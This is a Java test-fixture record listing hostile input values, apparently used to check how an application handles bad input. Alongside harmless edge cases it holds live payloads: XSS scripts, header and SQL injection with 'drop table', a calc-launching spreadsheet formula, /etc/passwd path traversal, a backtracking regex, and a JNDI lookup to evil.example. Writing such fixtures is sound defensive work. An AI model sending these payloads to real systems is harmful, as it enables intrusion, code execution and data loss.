package fr.mediane.hostile;

import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;

/**
 * A value that nobody types in good faith.
 *
 * @param name what a report calls it
 * @param values as sent for one name; several when the name is repeated
 */
record Attack(String name, List<String> values) {
    /** What no page may say as it was sent: it would be markup. */
    static final String SCRIPT = "<script>hostile(1)</script>";

    static final String IMAGE = "<img src=x onerror=hostile(2)>";
    static final String HEADER = "X-Hostile";

    static final List<Attack> ALL = Stream.of(
                    one("empty", ""),
                    one("blanks", " \u00a0\u2003\u200b "),
                    one("100,000 characters", "é".repeat(100_000)),
                    one("NUL", "a\0b"),
                    one("line ends and a header", "a\r\n" + HEADER + ": 1\r\n\r\n" + SCRIPT),
                    one("half a surrogate pair", "a\ud83db"),
                    one("other half", "\ude00"),
                    one("emoji", "👩🏽‍💻🇫🇷"),
                    one("right to left", "\u202eاسم\u2066abc\u061c"),
                    one("formula", "=cmd|' /C calc'!A0"),
                    one("script", SCRIPT),
                    one("attribute", "\" autofocus onfocus=hostile(3) x='" + IMAGE),
                    one("SQL", "' or 1=1; drop table x --"),
                    one("pattern", "%_\\*((((a+)+)+[$"),
                    one("huge number", "9".repeat(400)),
                    one("beyond long", "9223372036854775808"),
                    one("beyond int", "2147483648"),
                    one("negative", "-1"),
                    one("most negative", "-9223372036854775808"),
                    one("no number", "NaN"),
                    one("exponent", "1e999999999"),
                    one("other digits", "٣٤٥"),
                    one("date beyond", "9999-99-99"),
                    one("last date", "+999999999-12-31"),
                    one("year 9999", "9999-12-31"),
                    one("year 0", "0000-01-01"),
                    one("unknown id", "00000000-0000-7000-8000-000000000000"),
                    one("no id", "0-0-0-0-0"),
                    one("path", "../../../../etc/passwd"),
                    one("elsewhere", "//evil.example/\\evil.example"),
                    one("message", "{0} ${jndi:ldap://evil.example/a} #{7*7} %s"),
                    one("deep JSON", "[".repeat(20_000)),
                    one("object", "{\"a\":null}"),
                    one("true", "true"),
                    new Attack("none", List.of()),
                    new Attack("repeated", List.of("1", "", SCRIPT)),
                    new Attack("a hundred times", Collections.nCopies(100, "x")))
            .toList();

    private static Attack one(String name, String value) {
        return new Attack(name, List.of(value));
    }
}
